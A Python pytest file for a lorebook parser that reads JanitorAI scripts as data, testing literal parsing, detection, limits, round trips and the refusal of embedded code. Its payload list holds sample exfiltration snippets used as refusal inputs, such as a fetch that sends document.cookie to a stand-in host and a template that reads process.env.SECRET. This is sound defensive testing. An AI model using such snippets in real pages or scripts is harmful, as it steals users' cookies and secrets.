"""JanitorAI script lorebooks as a file format: the literal parser, the reader, detection,
knobs, located refusals of code, limits, and the lossless writer (round trips in every
spelling over the realistic conformance books)."""
from __future__ import annotations

import json
from dataclasses import replace
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from tests.support.janitor_spelling import SPELLINGS, Code, Style, script, spell
from lorescan.errors import FormatError, LorebookError
from lorescan.formats import DEFAULT_LIMITS, convert, detect_format, load, load_data
from lorescan.formats._jsliteral import parse_literal
from lorescan.model import entry_from_fields
from lorescan.formats.janitor import format_data_slot, janitor_source, read_script, write_janitor

VECTORS = Path(__file__).parent.parent / "conformance" / "janitor"


def _books(name: str) -> list[tuple[str, object]]:
    doc = json.loads((VECTORS / name).read_text(encoding="utf-8"))
    return [(c["name"], c["book"]) for c in doc["cases"] if isinstance(c["book"], list)]


REALISTIC = _books("books.json") + _books("mixed.json")


def same(a: object, b: object) -> bool:
    """Equal as JSON, types and member order included (1 is not 1.0 is not true)."""
    return json.dumps(a) == json.dumps(b)


def read(text: str, source: str = "lore.js"):
    return load(text.encode("utf-8"), source=source)


def refusal(text: str) -> FormatError:
    with pytest.raises(FormatError) as info:
        read(text)
    return info.value


# ---- the literal parser -----------------------------------------------------------------

@pytest.mark.parametrize("literal, value", [
    ("{a: 1, 'b': \"2\", \"c\": '3',}", {"a": 1, "b": "2", "c": "3"}),
    ("[1, -2, +3, -.5, 5., 1e3, 0x1F, 0o17, 0b101, 1_000]", [1, -2, 3, -0.5, 5.0, 1000.0, 31, 15, 5, 1000]),
    ("[true, false, null]", [True, False, None]),
    ("{a: undefined, b: 1}", {"b": 1}),
    ("'a\\nb\\tc\\u0041\\u{1F600}\\x41\\'\\\"\\\\'", "a\nb\tcA\U0001F600A'\"\\"),
    ("'one \\\ntwo'", "one two"),
    ("'\\uD83D\\uDE00'", "\U0001F600"),
    ("`multi\nline \\` ok`", "multi\nline ` ok"),
    ("'a' + \"b\" + `c`", "abc"),
    ("{1: 'x', 1.50: 'y', 0x10: 'z'}", {"1": "x", "1.5": "y", "16": "z"}),
    ("{a: 1, a: 2}", {"a": 2}),
    ("[/* c */ 1 // d\n , 2]", [1, 2]),
    ("{default: 1, if: 2, $x: 3, _y: 4}", {"default": 1, "if": 2, "$x": 3, "_y": 4}),
])
def test_a_literal_reads_as_the_json_value_javascript_builds(literal, value):
    got, end = parse_literal(literal, 0)
    assert same(got, value)
    assert end == len(literal)


def test_a_template_line_break_is_a_newline_whatever_the_file_uses():
    got, _ = parse_literal("`a\r\nb\rc`", 0)
    assert got == "a\nb\nc"


# ---- reading a script -----------------------------------------------------------------------

def test_a_script_is_read_from_its_dynamiclore_declaration_not_from_comments_or_strings():
    book = read(script([{"keywords": ["dock*"], "personality": "p"}], SPELLINGS["json"]))
    assert book.format == "janitor"
    assert janitor_source(book).entries == [{"keywords": ["dock*"], "personality": "p"}]


@pytest.mark.parametrize("keyword", ["var", "let", "const"])
def test_every_declaration_keyword_is_read(keyword):
    book = read(script([{"scenario": "s"}], SPELLINGS["json"], keyword=keyword))
    assert janitor_source(book).entries == [{"scenario": "s"}]


def test_the_knobs_are_read_as_written_and_absent_ones_are_none():
    src = janitor_source(read(script([], Style(), knobs={"APPLY_LIMIT": 3, "WINDOW_DEPTH": "8"})))
    assert (src.apply_limit, src.window_depth, src.written) == (3, "8", ("APPLY_LIMIT", "WINDOW_DEPTH"))
    assert src.knobs() == {"apply_limit": 3, "window_depth": "8"}
    bare = janitor_source(read("var dynamicLore = [];"))
    assert (bare.apply_limit, bare.window_depth, bare.written) == (None, None, ())


def test_a_declared_null_knob_is_told_from_an_absent_one():
    src = janitor_source(read("var APPLY_LIMIT = null;\nvar dynamicLore = [];"))
    assert src.apply_limit is None and src.written == ("APPLY_LIMIT",)
    assert src.knobs() == {"apply_limit": None}


def test_window_depth_is_the_value_the_scripts_default_slot_receives():
    engine_line = ('var WINDOW_DEPTH = (function (n) { n = parseInt(n, 10); return n; })'
                   '(typeof WINDOW_DEPTH === "number" ? WINDOW_DEPTH : 9);\n')
    assert janitor_source(read(engine_line + "var dynamicLore = [];")).window_depth == 9
    # a numeric declaration before the engine's line is what `typeof === "number"` picks
    assert janitor_source(read("var WINDOW_DEPTH = 3;\n" + engine_line + "var dynamicLore = [];")).window_depth == 3
    # a string is not a number to the script: its own default slot wins
    assert janitor_source(read("var WINDOW_DEPTH = '3';\n" + engine_line + "var dynamicLore = [];")
                          ).window_depth == 9
    # one declared after the script's line comes too late: the window is read by then
    assert janitor_source(read(engine_line + "var WINDOW_DEPTH = 3;\nvar dynamicLore = [];")).window_depth == 9


def test_the_last_apply_limit_declaration_wins():
    assert janitor_source(read("var APPLY_LIMIT = 6;\nvar APPLY_LIMIT = 2;\nvar dynamicLore = [];")).apply_limit == 2


def test_a_json_array_of_janitor_entries_and_a_dynamiclore_object_are_janitor_books():
    entries = [{"keywords": ["inn"], "scenario": "The inn."}]
    assert detect_format(entries) == "janitor"
    assert detect_format({"dynamicLore": entries, "APPLY_LIMIT": 2}) == "janitor"
    src = janitor_source(load_data({"dynamicLore": entries, "APPLY_LIMIT": 2}))
    assert src.entries == entries and src.apply_limit == 2


def test_generic_entry_arrays_keep_their_detection():
    assert detect_format([{"key": ["inn"], "content": "The inn."}]) == "entry_list"
    assert detect_format([{"keywords": ["inn"], "content": "x"}]) == "entry_list"   # a generic name wins
    assert detect_format([]) == "entry_list"


def test_json_text_is_never_read_as_a_script():
    with pytest.raises(FormatError, match="not valid JSON"):
        load(b'[{"keywords": ["a"]}, oops] // var dynamicLore = []', source="x.json")


def test_a_script_without_a_declaration_is_not_a_lorebook():
    with pytest.raises(FormatError, match="not valid JSON|no format"):
        load(b"var other = [];", source="x.js")


def test_the_view_entries_map_keywords_text_and_priority():
    book = read("var dynamicLore = [{keywords: ['inn', 'gilded gull', 'dock*'], priority: 5, personality: 'p',"
                " scenario: 's', minMessages: 3, nameBlock: ['Bob'], requireAny: ['ale']}, {}];")
    e, always = book.entries
    assert list(e.key) == ["inn", "/(?<![a-z0-9])gilded[^a-z0-9\\x01]+gull(?![a-z0-9])/i",
                           "/(?<![a-z0-9])dock[a-z]*(?![a-z0-9])/i"]
    assert e.fields["matchWholeWords"] is True and e.content == "p\n\ns" and e.fields["delay"] == 3
    assert list(e.keysecondary) == ["ale"] and e.selective_logic == 0
    assert e.fields["characterFilter"] == {"isExclude": True, "names": ["Bob"], "tags": []}
    assert e.order < always.order and always.constant


# ---- refusals: code is never run, and the error says where ---------------------------------------

def _entry_script(entry_text: str) -> str:
    return "var APPLY_LIMIT = 6;\nvar dynamicLore = [\n  {keywords: ['a']},\n  " + entry_text + "\n];\n"


@pytest.mark.parametrize("entry_text, column, field, what", [
    ("{keywords: ['a', alert(1)]}", 20, "keywords[1]", "function call"),
    ("{get personality() { return x; }}", 4, None, "getter"),
    ("{set personality(v) {}}", 4, None, "setter"),
    ("{[name]: 'x'}", 4, None, "computed key"),
    ("{personality: `hi ${name}`}", 21, "personality", "template substitution"),
    ("{...other}", 4, None, "spread"),
    ("{personality: other}", 17, "personality", "identifier reference"),
    ("{personality: () => 1}", 17, "personality", "arrow function"),
    ("{personality: function () {}}", 17, "personality", "function"),
    ("{personality: new String('x')}", 17, "personality", "constructor"),
    ("{scenario: 'a' + b}", 20, "scenario", "only string literals"),
    ("{Shifts: [{keywords: [x]}]}", 25, "Shifts[0].keywords[0]", "identifier reference"),
    ("{personality() { return 1 }}", 4, None, "method"),
    ("{keywords: /a/}", 14, "keywords", "regex literal"),
])
def test_code_in_the_literal_is_refused_with_its_location(entry_text, column, field, what):
    exc = refusal(_entry_script(entry_text))
    assert exc.source == "lore.js" and exc.entry == 1 and exc.field == field
    assert f"line 4 column {column}:" in exc.problem and what in exc.problem


_PAYLOADS = [("fetch('https://x.example/' + document.cookie)", "function call"),
             ("(() => steal())()", "arrow function"), ("`${process.env.SECRET}`", "template substitution"),
             ("{get text() { return steal(); }}", "getter"), ("{[steal()]: 1}", "computed key"),
             ("globalThis.secret", "identifier reference"), ("new Function('return 1')()", "constructor")]


@settings(max_examples=80, deadline=None)
@given(index=st.integers(0, len(REALISTIC) - 1), data=st.data())
def test_code_planted_anywhere_in_a_realistic_book_is_refused_at_its_entry_and_field(index, data):
    name, book = REALISTIC[index]
    entry = data.draw(st.integers(0, len(book) - 1))
    field = data.draw(st.sampled_from(sorted(book[entry])))
    payload, what = data.draw(st.sampled_from(_PAYLOADS))
    planted = [dict(e) for e in book]
    planted[entry][field] = Code(payload)
    text = script(planted, SPELLINGS["everything"], data.draw(st.integers(0, 2**16)))
    with pytest.raises(FormatError) as info:
        read(text)
    exc = info.value
    assert (exc.entry, exc.field) == (entry, field) and what in exc.problem, (name, exc)
    line = text.count("\n", 0, text.index(payload)) + 1
    assert f"line {line} column" in exc.problem


def test_a_call_on_the_array_is_refused():
    exc = refusal("var dynamicLore = [{}].map(function (e) { return steal(e); });")
    assert exc.field == "dynamicLore" and "continues with '.'" in exc.problem


def test_a_knob_computed_by_code_is_refused():
    exc = refusal("var APPLY_LIMIT = compute();\nvar dynamicLore = [];")
    assert exc.field == "APPLY_LIMIT" and "line 1 column 19" in exc.problem


def test_two_declarations_are_refused():
    exc = refusal("var dynamicLore = [];\nvar dynamicLore = [{}];")
    assert "declared twice (line 1 column 1 and line 2 column 1)" in exc.problem


@pytest.mark.parametrize("text, what", [
    ("var dynamicLore = [{a: 'x}];", "line break inside a quoted string|never closed"),
    ("var dynamicLore = [{a: 'x'];", "',' or '}'"),
    ("var dynamicLore = [1,,2];", "array hole"),
    ("var dynamicLore = [{__proto__: {}}];", "prototype"),
    ("var dynamicLore = [010];", "legacy octal"),
    ("var dynamicLore = [10n];", "BigInt"),
    ("var dynamicLore = [1e999];", "not finite"),
    ("var dynamicLore = [NaN];", "no JSON form"),
    ("var dynamicLore = ['\\1'];", "octal escape"),
    ("var dynamicLore = [undefined];", "undefined inside an array"),
    ("var dynamicLore = [/* never closed", "never closed"),
])
def test_malformed_literals_are_located_errors(text, what):
    exc = refusal(text)
    assert "line 1 column" in exc.problem
    assert any(w in exc.problem for w in what.split("|"))


def test_nesting_and_size_limits_apply():
    deep = "var dynamicLore = [" + "[" * 300 + "]" * 300 + "];"
    with pytest.raises(FormatError, match="nested deeper than 256"):
        read(deep)
    many = "var dynamicLore = [" + "{}," * 50 + "];"
    with pytest.raises(LorebookError, match="max_entries=10"):
        load(many.encode(), source="x.js", limits=replace(DEFAULT_LIMITS, max_entries=10))
    with pytest.raises(FormatError, match="max_json_containers=20"):
        load(many.encode(), source="x.js", limits=replace(DEFAULT_LIMITS, max_json_containers=20))


# ---- round trips ----------------------------------------------------------------------------

@pytest.mark.parametrize("spelling", sorted(SPELLINGS))
def test_every_realistic_book_reads_back_the_same_in_every_spelling(spelling):
    assert len(REALISTIC) >= 50
    for seed, (name, book) in enumerate(REALISTIC):
        text = script(book, SPELLINGS[spelling], seed, knobs={"APPLY_LIMIT": 4})
        got = janitor_source(read_script(text.encode("utf-8"), source=f"{name}.js"))
        assert same(got.entries, book), (name, spelling)
        assert got.apply_limit == 4


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(index=st.integers(0, len(REALISTIC) - 1), seed=st.integers(0, 2**32))
def test_mixed_spellings_of_realistic_books_read_back_the_same(index, seed):
    name, book = REALISTIC[index]
    text = script(book, SPELLINGS["everything"], seed)
    assert same(janitor_source(read(text)).entries, book), name


_json = st.recursive(
    st.none() | st.booleans() | st.integers(-2**53, 2**53) | st.floats(allow_nan=False, allow_infinity=False)
    | st.text(max_size=12),
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=6).filter(
        lambda k: k != "__proto__"), inner, max_size=4), max_leaves=20)


@settings(max_examples=150, deadline=None)
@given(value=st.lists(st.dictionaries(st.text(max_size=8).filter(lambda k: k != "__proto__"), _json,
                                      max_size=5), max_size=4), seed=st.integers(0, 2**32))
def test_any_json_entries_read_back_the_same_in_mixed_spellings(value, seed):
    value = json.loads(json.dumps(value))       # -0.0 and friends as JSON has them
    got = janitor_source(read(script(value, SPELLINGS["everything"], seed))).entries
    assert json.loads(json.dumps(got)) == value and same(got, value)


@pytest.mark.parametrize("name, book", REALISTIC[:40], ids=[n for n, _ in REALISTIC[:40]])
def test_read_write_read_keeps_every_entry_and_field(name, book):
    first = read(script(book, SPELLINGS["everything"], 7, knobs={"WINDOW_DEPTH": 3}))
    data, losses = write_janitor(first)
    assert losses == [] and same(data, {"dynamicLore": book, "WINDOW_DEPTH": 3})
    second = load_data(json.loads(json.dumps(data)), source="back.json")
    assert same(janitor_source(second).entries, book)
    assert [dict(e.fields) for e in second.entries] == [dict(e.fields) for e in first.entries]


def test_unknown_fields_and_odd_values_survive_the_round_trip():
    book = [{"keywords": "not a list", "myNote": {"x": [1, 2.5, None]}, "Priority": 9}, {"personality": 7}]
    data, report = convert(load_data(book), "janitor")
    assert same(data, book) and not report


def test_the_data_slot_text_reads_back_as_the_same_book():
    book = REALISTIC[0][1]
    text = format_data_slot(load_data({"dynamicLore": book, "APPLY_LIMIT": 3}))
    src = janitor_source(read(text))
    assert same(src.entries, book) and src.apply_limit == 3
    assert "function" not in text and "Math.random" not in text      # the data only, never the engine


def test_a_changed_view_entry_writes_its_keywords_and_keeps_the_rest():
    book = load_data([{"keywords": ["inn"], "tag": "t", "scenario": "old", "x": 1}])
    e = book.entries[0]
    changed = replace(book, entries=(entry_from_fields({**dict(e.fields), "key": ["tavern"]}),))
    data, losses = write_janitor(changed)
    assert data == [{"keywords": ["tavern"], "tag": "t", "scenario": "old", "x": 1}] and losses == []


def test_spelling_helper_is_not_json_for_the_named_javascript_styles():
    value = [{"keywords": ["tavern"], "n": 1}]
    assert spell(value, SPELLINGS["json"]) == json.dumps(value, separators=(",", ":"))
    for name in ("single_quotes", "unquoted_keys", "template_strings", "concatenations"):
        with pytest.raises(json.JSONDecodeError):
            json.loads(spell(value, SPELLINGS[name]))


@settings(max_examples=400, deadline=None)
@given(parts=st.lists(st.sampled_from(list("[]{}(),:;'\"`\\/*+-.0123456789xeEnu$ _abtrfl\n\u2028") +
                                      ["true", "null", "undefined", "${", "//", "/*", "*/", "=>", "0x", "\\u{"]),
                      max_size=40))
def test_any_text_after_the_declaration_reads_or_is_a_located_error(parts):
    tail = "".join(parts)
    try:
        read("var APPLY_LIMIT = 1;\nvar dynamicLore = " + tail)
    except FormatError as exc:
        assert exc.source == "lore.js" and exc.problem
